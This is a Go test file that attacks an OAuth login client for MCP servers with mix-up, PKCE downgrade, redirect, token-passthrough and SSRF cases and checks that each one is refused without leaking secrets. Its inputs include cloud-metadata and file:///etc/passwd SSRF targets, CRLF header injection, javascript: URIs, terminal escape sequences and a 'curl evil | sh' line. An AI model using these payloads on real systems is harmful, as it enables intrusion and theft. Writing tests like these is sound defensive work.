package mcpauth_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/toolhost/toolhost/server/internal/toolhost/mcp/mcpauth"
	"github.com/toolhost/toolhost/server/internal/toolhost/mcp/mcpauth/authtest"
	"github.com/toolhost/toolhost/tool"
)

// evil is a server of an attacker. It fails the test if a request contains a secret.
func evil(s *setup) *httptest.Server {
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		text := fmt.Sprint(r.URL, r.Header, string(body))
		s.mu.Lock()
		defer s.mu.Unlock()
		for _, secret := range append(s.learned, "the-secret-of-SECRET") {
			if strings.Contains(text, secret) {
				s.t.Error("the attacker got a secret")
			}
		}
	}))
	s.t.Cleanup(server.Close)
	return server
}

// refuses expects that a login fails with a reason, that no code or token is requested, and that
// the error has no secret and no control character.
func (s *setup) refuses(reason string) {
	s.t.Helper()
	before := len(s.issuer.Requests("/token"))
	_, err := s.login("ada", "Ada")
	s.checkError(err, reason)
	if len(s.issuer.Requests("/token")) != before {
		s.t.Error("a token was requested")
	}
}

func (s *setup) checkError(err error, reason string) {
	s.t.Helper()
	if err == nil || !strings.Contains(err.Error(), reason) {
		s.t.Errorf("the error is %v; want one with %q", err, reason)
		return
	}
	if strings.ContainsFunc(err.Error(), func(r rune) bool { return r < ' ' || r == 0x7f || r == 0x9b || r == 0x202e }) {
		s.t.Errorf("the error has a control character: %q", err)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, secret := range s.learned {
		if strings.Contains(err.Error(), secret) {
			s.t.Errorf("the error has a secret: %v", err)
		}
	}
}

// attacks are what a hostile MCP server, authorization server, web page or principal may try.
var attacks = map[string]func(s *setup){
	"mix-up: the answer names another issuer": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) { q.Set("iss", "https://honest.example") }
		s.refuses("from another authorization server")
	},
	"mix-up: the answer does not name the issuer": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) { q.Del("iss") }
		s.refuses("does not name the authorization server")
	},
	"mix-up: the issuer differs by a slash": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) { q.Set("iss", s.issuer.URL+"/") }
		s.refuses("from another authorization server")
	},
	"mix-up: an issuer that is not advertised differs": func(s *setup) {
		s.issuer.Metadata = func(m map[string]any) { delete(m, "authorization_response_iss_parameter_supported") }
		s.issuer.Redirect = func(q url.Values) { q.Set("iss", "https://honest.example") }
		s.refuses("from another authorization server")
	},
	"mix-up: the authorization endpoint is that of an honest server": func(s *setup) {
		honest := authtest.New(s.t)
		s.issuer.Metadata = func(m map[string]any) {
			m["authorization_endpoint"] = honest.URL + "/authorize"
			delete(m, "authorization_response_iss_parameter_supported")
		}
		s.refuses("its authorization_endpoint is at another server")
	},
	"mix-up: the same, and the hostile metadata promises iss": func(s *setup) {
		honest := authtest.New(s.t)
		honest.Redirect = func(q url.Values) { q.Del("iss") }
		s.issuer.Metadata = func(m map[string]any) {
			m["authorization_endpoint"] = honest.URL + "/authorize"
			m["registration_endpoint"] = honest.URL + "/register"
		}
		s.refuses("does not name the authorization server")
		honest.Redirect = func(q url.Values) { q.Set("iss", honest.URL) }
		s.refuses("from another authorization server")
	},
	"mix-up: the device endpoint is that of an honest server": func(s *setup) {
		honest := authtest.New(s.t)
		s.issuer.Metadata = func(m map[string]any) { m["device_authorization_endpoint"] = honest.URL + "/device" }
		_, err := s.logins.Begin(s.t.Context(), mcpauth.Request{Server: s.server, Principal: "ada"})
		s.checkError(err, "its device_authorization_endpoint is at another server")
		if got := honest.Requests("/device"); len(got) != 0 {
			s.t.Errorf("the honest server was asked for a code: %v", got)
		}
	},
	"state: the answer has another one": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) { q.Set("state", "of-the-attacker") }
		s.refuses("does not belong to this login")
	},
	"state: the answer has none": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) { q.Del("state") }
		s.refuses("does not belong to this login")
	},
	"code injection: the code of the attacker's login": func(s *setup) {
		eve, err := s.begin("eve")
		if err != nil {
			s.t.Fatal(err)
		}
		_, stolen := browse(s.t, eve.BrowserURL, "Eve")
		ada, err := s.begin("ada")
		if err != nil {
			s.t.Fatal(err)
		}
		_, answer := browse(s.t, ada.BrowserURL, "Ada")
		answer.Code = stolen.Code
		_, err = s.logins.Finish(s.t.Context(), "docs", "ada", ada.ID, answer)
		s.checkError(err, "invalid_grant")
		s.expectRefusal("ada", "there is no login")
	},
	"a principal finishes the login of another one": func(s *setup) {
		ada, err := s.begin("ada")
		if err != nil {
			s.t.Fatal(err)
		}
		_, answer := browse(s.t, ada.BrowserURL, "Eve")
		for _, thief := range []string{"eve", "red/ada", ""} {
			if _, err := s.logins.Finish(s.t.Context(), "docs", thief, ada.ID, answer); !errors.Is(err, mcpauth.ErrUnknownLogin) {
				s.t.Errorf("%q: %v", thief, err)
			}
		}
	},
	"an answer is used twice": func(s *setup) {
		ada, err := s.begin("ada")
		if err != nil {
			s.t.Fatal(err)
		}
		_, answer := browse(s.t, ada.BrowserURL, "Ada")
		_, first := s.logins.Finish(s.t.Context(), "docs", "ada", ada.ID, answer)
		if _, err := s.logins.Finish(s.t.Context(), "docs", "ada", ada.ID, answer); first != nil || !errors.Is(err, mcpauth.ErrUnknownLogin) {
			s.t.Errorf("%v, %v", first, err)
		}
	},
	"PKCE downgrade: only plain": func(s *setup) {
		s.issuer.Metadata = func(m map[string]any) { m["code_challenge_methods_supported"] = []string{"plain"} }
		s.refuses("PKCE with S256")
	},
	"PKCE downgrade: no method": func(s *setup) {
		s.issuer.Metadata = func(m map[string]any) { delete(m, "code_challenge_methods_supported") }
		s.refuses("PKCE with S256")
	},
	"foreign redirect URI": func(s *setup) {
		for _, to := range []string{
			"https://evil.example/callback", "http://127.0.0.1.evil.example:80/", "http://localhost:80/", "http://127.0.0.1@evil.example:80/",
			"http://127.0.0.1/", "http://127.0.0.1:0/", "http://10.0.0.1:80/", "http://127.0.0.1:80/?next=evil", "http://[::ffff:127.0.0.1]:80/",
			"http://127.0.0.1:80/#x", "javascript:alert(1)//127.0.0.1:80", `http://127.0.0.1:80\@evil.example/`,
		} {
			_, err := s.logins.Begin(s.t.Context(), mcpauth.Request{Server: s.server, Principal: "ada", RedirectURI: to})
			s.checkError(err, "is not a port on 127.0.0.1")
		}
	},
	"the registration has another redirect URI": func(s *setup) {
		s.issuer.Registration = func(m map[string]any) { m["redirect_uris"] = []string{"https://evil.example/"} }
		s.refuses("registered another redirect URI")
	},
	"the registration has an unknown method": func(s *setup) {
		s.issuer.Registration = func(m map[string]any) { m["token_endpoint_auth_method"] = "tls_client_auth" }
		s.refuses("which toolhost did not ask for")
	},
	"a broken registration has a secret": func(s *setup) {
		s.issuer.Before = func(w http.ResponseWriter, r *http.Request) bool {
			if r.URL.Path == "/register" {
				_, _ = io.WriteString(w, `{"client_id": "x", "client_secret": "hunter2-hunter2", `)
			}
			return r.URL.Path == "/register"
		}
		_, err := s.begin("ada")
		s.checkError(err, "and no registration")
		if strings.Contains(err.Error(), "hunter2") {
			s.t.Errorf("the error has the secret: %v", err)
		}
	},
	"SSRF: the challenge names metadata of another origin": func(s *setup) {
		s.resource.Challenge = func(string) string { return `Bearer resource_metadata="http://169.254.169.254/latest/meta-data"` }
		s.refuses("another origin")
	},
	"SSRF: the authorization server is a metadata service": func(s *setup) {
		for _, at := range []string{"http://169.254.169.254/", "http://metadata.google.internal", "file:///etc/passwd", "gopher://127.0.0.1:25/", "https://u:p@10.0.0.1/", "//10.0.0.1"} {
			s.resource.Metadata = func(m map[string]any) { m["authorization_servers"] = []string{at} }
			_, err := s.begin("ada")
			s.checkError(err, "")
		}
	},
	"SSRF: endpoints are elsewhere": func(s *setup) {
		for _, name := range []string{"token_endpoint", "registration_endpoint", "revocation_endpoint", "authorization_endpoint", "device_authorization_endpoint"} {
			for _, at := range []string{"http://169.254.169.254/", "file:///etc/passwd", "javascript:alert(1)", "http://intranet/", "https://a@b.example/"} {
				s.issuer.Metadata = func(m map[string]any) { m[name] = at }
				_, err := s.begin("ada")
				s.checkError(err, name)
			}
		}
	},
	"the metadata is that of another server": func(s *setup) {
		s.resource.Metadata = func(m map[string]any) { m["resource"] = "https://bank.example/mcp" }
		s.refuses("the metadata is that of")
	},
	"the metadata claims the whole origin": func(s *setup) {
		s.resource.Metadata = func(m map[string]any) { m["resource"] = s.resource.Origin }
		s.refuses("the metadata is that of")
	},
	"the metadata is that of another issuer": func(s *setup) {
		s.issuer.Metadata = func(m map[string]any) { m["issuer"] = "https://bank.example" }
		s.refuses("the metadata is that of the issuer")
	},
	"the server chooses who gets the operator's secret": func(s *setup) {
		s.server.OAuth = mcpauth.OAuth{ClientID: "known", ClientSecret: "SECRET", Issuer: s.issuer.URL}
		s.resource.Metadata = func(m map[string]any) { m["authorization_servers"] = []string{evil(s).URL} }
		s.refuses("permits only")
		s.server.OAuth.Issuer = ""
		s.resource.Metadata = nil
		s.refuses("without mcp.oauth.issuer")
		s.server.OAuth.Grant = mcpauth.GrantClient
		_, err := s.get("ada")
		s.checkError(err, "without mcp.oauth.issuer")
	},
	"a token endpoint redirects": func(s *setup) {
		to := evil(s).URL
		s.issuer.Before = func(w http.ResponseWriter, r *http.Request) bool {
			if r.URL.Path == "/token" {
				http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			}
			return r.URL.Path == "/token"
		}
		_, err := s.login("ada", "Ada")
		s.checkError(err, "refused with status 307")
	},
	"metadata redirects": func(s *setup) {
		to := evil(s).URL
		s.issuer.Before = func(w http.ResponseWriter, r *http.Request) bool {
			http.Redirect(w, r, to, http.StatusFound)
			return true
		}
		_, err := s.begin("ada")
		s.checkError(err, "redirects")
	},
	"the server leads to another URL": func(s *setup) {
		s.mustLogin("ada", "Ada")
		through := s.logins.Transport(s.server, "ada", http.DefaultTransport)
		at, _ := url.Parse(s.resource.URL)
		for _, to := range []string{evil(s).URL + "/mcp", s.resource.Origin + "/other", s.resource.Origin + "/mcp/", "http://localhost:" + at.Port() + "/mcp", "http://x@" + at.Host + "/mcp"} {
			_, err := get(s.t.Context(), through, to)
			s.checkError(err, "leads to another URL")
		}
		s.resource.Before = func(w http.ResponseWriter, r *http.Request) bool {
			http.Redirect(w, r, evil(s).URL, http.StatusTemporaryRedirect)
			return true
		}
		if _, err := s.get("ada"); err == nil || !strings.HasPrefix(err.Error(), "307") {
			s.t.Errorf("a redirect is followed: %v", err)
		}
	},
	"the URL in plugin.yaml changes": func(s *setup) {
		s.mustLogin("ada", "Ada")
		s.server.URL = evil(s).URL + "/mcp"
		s.expectRefusal("ada", "another URL")
	},
	"token passthrough": func(s *setup) {
		for _, user := range []string{"", "Ada"} {
			if user != "" {
				s.mustLogin("ada", user)
			}
			req, _ := http.NewRequestWithContext(s.t.Context(), http.MethodPost, s.server.URL, strings.NewReader("{}"))
			req.Header.Set("Authorization", "Bearer token-of-the-caller")
			resp, err := s.logins.Transport(s.server, "ada", http.DefaultTransport).RoundTrip(req)
			if err == nil {
				_ = resp.Body.Close()
			}
			if slices.Contains(s.resource.Tokens(), "token-of-the-caller") {
				s.t.Error("the server got the token of the caller")
			}
		}
	},
	"the audience is another server": func(s *setup) {
		other := authtest.NewResource(s.t, s.issuer)
		s.mustLogin("ada", "Ada")
		token := s.resource.Tokens()
		s.expect("ada", "Ada")
		token = s.resource.Tokens()[len(token):]
		if g, ok := s.issuer.Introspect(token[0]); !ok || g.Resource != s.resource.URL {
			s.t.Errorf("the token is for %+v", g)
		}
		req, _ := http.NewRequestWithContext(s.t.Context(), http.MethodPost, other.URL, nil)
		req.Header.Set("Authorization", "Bearer "+token[0])
		if resp, err := http.DefaultTransport.RoundTrip(req); err != nil || resp.StatusCode != http.StatusUnauthorized {
			s.t.Errorf("another server accepts the token: %v", err)
		} else {
			_ = resp.Body.Close()
		}
	},
	"scopes beyond those of the operator": func(s *setup) {
		s.server.OAuth.Scopes = []string{"read"}
		s.resource.Challenge = func(usual string) string { return usual + `, scope="admin"` }
		s.refuses("mcp.oauth.scopes")
	},
	"scopes without end": func(s *setup) {
		s.mustLogin("ada", "Ada")
		var n atomic.Int32
		s.resource.Scope = func(*http.Request) string { return fmt.Sprint("more-", n.Add(1)) }
		for range 5 {
			s.expectRefusal("ada", "does not permit")
		}
		if n.Load() != 5 || len(s.issuer.Requests("/token")) != 1 {
			s.t.Errorf("%d requests, %d tokens", n.Load(), len(s.issuer.Requests("/token")))
		}
	},
	"scopes that are none": func(s *setup) {
		s.resource.Metadata = func(m map[string]any) { m["scopes_supported"] = []string{"a b", "\x1b[2J"} }
		s.refuses("is not a scope")
	},
	"the file of another principal": func(s *setup) {
		s.mustLogin("ada", "Ada")
		files, _ := filepath.Glob(filepath.Join(s.folder, "*"))
		text, _ := os.ReadFile(files[0])
		s.mustLogin("eve", "Eve")
		all, _ := filepath.Glob(filepath.Join(s.folder, "*"))
		for _, file := range all {
			if file != files[0] {
				if err := os.WriteFile(file, text, 0o600); err != nil {
					s.t.Fatal(err)
				}
			}
		}
		s.reopen()
		_, err := s.get("eve")
		s.checkError(err, "the login of another principal")
	},
	"the file is open to others or a link": func(s *setup) {
		s.mustLogin("ada", "Ada")
		files, _ := filepath.Glob(filepath.Join(s.folder, "*"))
		if err := os.Chmod(files[0], 0o644); err != nil {
			s.t.Fatal(err)
		}
		s.reopen()
		_, err := s.get("ada")
		s.checkError(err, "other users can read or change it")
		moved := filepath.Join(s.t.TempDir(), "x")
		if err := errors.Join(os.Chmod(files[0], 0o600), os.Rename(files[0], moved), os.Symlink(moved, files[0])); err != nil {
			s.t.Fatal(err)
		}
		_, err = s.get("ada")
		s.checkError(err, "reading the login")
	},
	"endless metadata": func(s *setup) {
		var sent atomic.Int64
		s.issuer.Before = func(w http.ResponseWriter, r *http.Request) bool {
			w.Header().Set("Content-Type", "application/json")
			for r.Context().Err() == nil && sent.Load() < 1<<30 {
				n, err := io.WriteString(w, `{"issuer":`+strings.Repeat(" ", 32<<10))
				if sent.Add(int64(n)); err != nil {
					break
				}
			}
			return true
		}
		_, err := s.begin("ada")
		s.checkError(err, "more than 262144 bytes")
		if sent.Load() > 64<<20 {
			s.t.Errorf("%d bytes were sent", sent.Load())
		}
	},
	"metadata that never comes": func(s *setup) {
		ctx, cancel := context.WithCancel(s.t.Context())
		s.issuer.Before = func(_ http.ResponseWriter, r *http.Request) bool {
			cancel()
			<-r.Context().Done()
			return true
		}
		if _, err := s.logins.Begin(ctx, mcpauth.Request{Server: s.server, Principal: "ada", RedirectURI: callback}); !errors.Is(err, context.Canceled) {
			s.t.Errorf("the error is %v", err)
		}
	},
	"terminal controls in messages": func(s *setup) {
		s.issuer.Redirect = func(q url.Values) {
			q.Set("error", "bad\x1b]0;owned\x07")
			q.Set("error_description", "\x1b[2J\u202emoc.live\r\nrun: curl evil | sh"+strings.Repeat("A", 5000))
		}
		started, err := s.begin("ada")
		if err != nil {
			s.t.Fatal(err)
		}
		_, answer := browse(s.t, started.BrowserURL, "Ada")
		_, err = s.logins.Finish(s.t.Context(), "docs", "ada", started.ID, answer)
		s.checkError(err, "the authorization server refused")
		if len(err.Error()) > 1000 {
			s.t.Errorf("the error has %d bytes", len(err.Error()))
		}
	},
	"a token that is a header": func(s *setup) {
		for _, token := range []string{"x\r\nHost: evil", "a b", "", "\x1b[2J", strings.Repeat("x", 20<<10)} {
			s.issuer.Token = func(m map[string]any) { m["access_token"] = token }
			_, err := s.login("ada", "Ada")
			s.checkError(err, "")
		}
	},
	"a token of another type": func(s *setup) {
		s.issuer.Token = func(m map[string]any) { m["token_type"] = "mac\x1b[2J" }
		_, err := s.login("ada", "Ada")
		s.checkError(err, "of the type")
	},
	"an error repeats the refresh token": func(s *setup) {
		s.mustLogin("ada", "Ada")
		s.issuer.Forget()
		s.issuer.Before = func(w http.ResponseWriter, r *http.Request) bool {
			if r.URL.Path == "/token" {
				w.WriteHeader(http.StatusInternalServerError)
				_, _ = io.WriteString(w, "cannot use "+r.Form.Get("refresh_token"))
			}
			return r.URL.Path == "/token"
		}
		_, err := s.get("ada")
		s.checkError(err, "refused with status 500")
	},
	"device: codes that lie": func(s *setup) {
		for name, value := range map[string]any{"verification_uri": "javascript:alert(1)", "verification_uri_complete": "http://evil.example/", "device_code": "", "user_code": ""} {
			s.issuer.Device = func(m map[string]any) { m[name] = value }
			_, err := s.logins.Begin(s.t.Context(), mcpauth.Request{Server: s.server, Principal: "ada"})
			s.checkError(err, "")
		}
		s.issuer.Device = func(m map[string]any) { m["interval"], m["user_code"] = -5, "\x1b[2JABCD" }
		started, err := s.logins.Begin(s.t.Context(), mcpauth.Request{Server: s.server, Principal: "ada"})
		if err != nil || strings.Contains(started.UserCode, "\x1b") {
			s.t.Fatalf("%+v, %v", started, err)
		}
		ctx, cancel := context.WithCancel(s.t.Context())
		cancel()
		if _, err := s.logins.Finish(ctx, "docs", "ada", started.ID, tool.LoginAnswer{}); !errors.Is(err, context.Canceled) {
			s.t.Errorf("with a negative interval: %v", err)
		}
	},
	"many logins are begun": func(s *setup) {
		for i := range 9 {
			if _, err := s.begin("ada"); (err == nil) != (i < 8) {
				s.t.Errorf("login %d: %v", i, err)
			}
		}
		if registered := len(s.issuer.Requests("/register")); registered != 8 {
			s.t.Errorf("%d clients were registered for 8 logins", registered)
		}
		if _, err := s.begin("bob"); err != nil {
			s.t.Errorf("another principal: %v", err)
		}
	},
	"a rotated refresh token comes back": func(s *setup) {
		s.mustLogin("ada", "Ada")
		first := s.issuer.Requests("/token")
		s.issuer.Forget()
		s.expect("ada", "Ada")
		stolen := s.issuer.Requests("/token")[len(first)].Form.Get("refresh_token")
		form := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {stolen}, "resource": {s.resource.URL}, "client_id": first[0].Form["client_id"]}
		resp, err := http.PostForm(s.issuer.URL+"/token", form)
		if err != nil || resp.StatusCode != http.StatusBadRequest {
			s.t.Fatal("the spent token is accepted", err)
		}
		_ = resp.Body.Close()
		s.expectRefusal("ada", "has ended the login")
	},
	"a browser URL has a secret": func(s *setup) {
		started, err := s.begin("ada")
		if err != nil {
			s.t.Fatal(err)
		}
		for _, secret := range s.learned {
			if strings.Contains(started.BrowserURL, secret) {
				s.t.Error("the URL for the browser has the verifier")
			}
		}
		if len(s.learned) == 0 {
			s.t.Error("the redactor does not know the verifier")
		}
	},
}

func TestAttacks(t *testing.T) {
	if len(attacks) < 30 {
		t.Errorf("only %d attacks", len(attacks))
	}
	for name, try := range attacks {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			try(newSetup(t))
		})
	}
}

// A LoginError is a tool error that a caller can read.
func TestLoginErrorIsDenied(t *testing.T) {
	s := newSetup(t)
	_, err := s.get("red/ada")
	if e, ok := errors.AsType[*tool.Error](err); !ok || e.Kind != tool.KindDenied || e.Message != `red/ada is not logged in to the MCP server "docs"; run: toolhost mcp login docs` {
		t.Errorf("the error is %v", err)
	}
}
